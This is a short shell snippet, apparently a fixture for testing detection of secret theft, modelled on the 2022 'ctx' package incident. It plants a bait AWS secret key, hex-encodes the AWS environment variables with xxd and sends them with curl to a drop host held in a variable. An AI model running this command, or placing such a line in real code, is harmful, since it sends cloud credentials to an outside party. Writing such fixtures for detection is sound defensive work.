# incident: ctx (2022) in another form: the environment in hexadecimal
# finding: secret-sent
# needs: curl xxd
export AWS_SECRET_ACCESS_KEY=bait
curl -s "http://$DROP/?d=$(env | grep AWS_ | xxd -p | tr -d '\n')" > /dev/null
